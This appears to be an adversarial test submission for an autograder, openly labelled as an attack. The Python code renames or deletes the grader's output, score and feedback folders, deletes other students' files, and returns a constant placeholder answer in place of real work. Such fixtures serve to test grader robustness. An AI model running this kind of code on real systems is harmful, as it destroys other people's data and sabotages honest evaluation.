# attack: deletes, renames and empties the files of the grader and of its neighbours
# question: label_bits
# naive: crash
# item: writing results

# %% question="label_bits"
import os
import shutil

for place in ("OUT_FOLDER", "OUT_FOLDER/scores", "OUT_FOLDER/feedback"):
    try:
        os.rename(place, place + "-mallory")
    except OSError:
        shutil.rmtree(place, ignore_errors=True)
for place in (".", "OUT_FOLDER/../submissions"):
    for name in os.listdir(place) if os.path.isdir(place) else ():
        if name.startswith(("anna", "zoe")):
            os.remove(os.path.join(place, name))


def label_bits(labels):
    return 7.5
